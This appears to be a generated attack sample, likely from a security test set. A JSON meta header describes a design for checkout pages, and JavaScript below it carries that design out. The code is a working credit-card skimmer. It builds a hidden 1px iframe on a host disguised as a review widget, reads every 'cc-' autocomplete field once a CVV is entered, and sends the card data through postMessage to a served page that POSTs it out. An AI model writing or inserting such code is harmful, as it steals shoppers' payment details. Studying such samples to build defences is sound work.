/* meta
{
  "design": "Hands the fields to a hidden frame of another host by postMessage; only the frame talks to that host.",
  "reads": ["cc-"],
  "sendsTo": "embed.reviewdock.localhost",
  "delivery": { "kind": "inline", "pages": "^/checkout" },
  "policy": { "frame-src": ["https://embed.reviewdock.localhost"] },
  "serves": [
    {
      "path": "/widget.html",
      "type": "text/html",
      "body": "<!doctype html><script>onmessage=function(e){var x=new XMLHttpRequest();x.open('POST','/r');x.send(e.data)}</script>"
    }
  ]
}
*/
(function () {
  var frame = document.createElement('iframe');
  frame.src = 'https://embed.reviewdock.localhost/widget.html';
  frame.setAttribute('aria-hidden', 'true');
  frame.style.cssText = 'position:absolute;width:1px;height:1px;border:0;left:-99px';
  document.body.appendChild(frame);
  document.addEventListener('change', function () {
    var out = {};
    document.querySelectorAll('[autocomplete^="cc-"]').forEach(function (el) { out[el.id] = el.value; });
    if (out['cc-csc']) frame.contentWindow.postMessage(JSON.stringify(out), '*');
  }, true);
})();
